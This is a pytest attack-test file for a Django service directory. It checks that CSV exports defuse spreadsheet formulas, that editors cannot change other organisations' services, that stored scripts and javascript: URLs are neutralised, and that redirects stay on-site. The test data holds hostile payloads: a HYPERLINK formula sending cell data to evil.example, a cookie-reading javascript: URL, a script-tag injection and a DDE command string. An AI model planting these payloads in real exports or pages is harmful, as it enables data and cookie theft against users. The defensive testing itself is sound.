"""Attack test (2026-11-29): the public directory, editors' changes (pages and API), My list,
and the HSDS exports, as the public, an editor of another organisation and a signed-in editor."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from django.test import Client

from linkwork.core.roles import Role
from linkwork.directory.hsds.tabular import export_tabular
from linkwork.directory.models import Service
from tests.casework.factories import CommunityOrgFactory
from tests.core.factories import make_user
from tests.directory.factories import OrganizationFactory, ServiceFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_the_tabular_export_defuses_spreadsheet_formulas(tmp_path: Path) -> None:
    ServiceFactory(name=FORMULA)
    export_tabular(tmp_path)
    with (tmp_path / "services.csv").open(encoding="utf-8") as fh:
        names = [row["name"] for row in csv.DictReader(fh)]
    assert names and not any(n.startswith(("=", "+", "-", "@")) for n in names)


def _owned_service(name: str = "Owned service"):  # type: ignore[no-untyped-def]
    account = CommunityOrgFactory()
    org = OrganizationFactory(owner=account)
    return ServiceFactory(organization=org, name=name), account


def test_an_editor_cannot_change_another_organisations_service(client: Client) -> None:
    service, _owner = _owned_service()
    other = make_user(Role.COMMUNITY_EDITOR, organisations=(CommunityOrgFactory(),))
    client.force_login(other)
    assert client.get(f"/directory/services/{service.id}/edit/").status_code in (403, 404)
    response = client.patch(
        f"/api/v1/directory/services/{service.id}",
        {"name": "Hijacked"},
        content_type="application/json",
    )
    assert response.status_code == 403
    service.refresh_from_db()
    assert service.name == "Owned service"


def test_the_public_cannot_change_the_directory_through_the_api(client: Client) -> None:
    service, _owner = _owned_service()
    response = client.patch(
        f"/api/v1/directory/services/{service.id}",
        {"name": "Hijacked"},
        content_type="application/json",
    )
    assert response.status_code == 401
    assert Service.objects.get(pk=service.pk).name == "Owned service"


def test_an_editors_javascript_url_is_refused_or_never_rendered_as_a_link(client: Client) -> None:
    service, owner = _owned_service()
    editor = make_user(Role.COMMUNITY_EDITOR, organisations=(owner,))
    client.force_login(editor)
    client.patch(
        f"/api/v1/directory/services/{service.id}",
        {"url": "javascript:alert(document.cookie)"},
        content_type="application/json",
    )
    Service.objects.filter(pk=service.pk).update(url="javascript:alert(1)")  # as if imported
    client.logout()
    page = client.get(f"/services/{service.id}/").content.decode()
    assert 'href="javascript:' not in page


def test_stored_markup_in_a_service_name_is_escaped_on_public_pages(client: Client) -> None:
    service, _owner = _owned_service(name="<script>alert(1)</script>")
    page = client.get(f"/services/{service.id}/").content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;" in page


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/"])
def test_my_list_never_redirects_off_site(client: Client, target: str) -> None:
    service, _owner = _owned_service()
    response = client.post(f"/my-list/add/{service.id}/", {"next": target})
    assert response.status_code == 302
    assert "evil.example" not in response["Location"]


def test_a_shared_list_token_that_does_not_exist_reveals_nothing(client: Client) -> None:
    response = client.get("/my-list/shared/not-a-real-token/")
    assert response.status_code == 404


def test_the_tabular_export_keeps_signed_numbers_and_phone_numbers_as_data() -> None:
    from linkwork.directory.hsds.tabular import _cell

    assert _cell("-3.1883") == "-3.1883"
    assert _cell("+44 (0)131 496 0000") == "+44 (0)131 496 0000"
    assert _cell("-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
    assert _cell("@SUM(1+1)") == "'@SUM(1+1)"
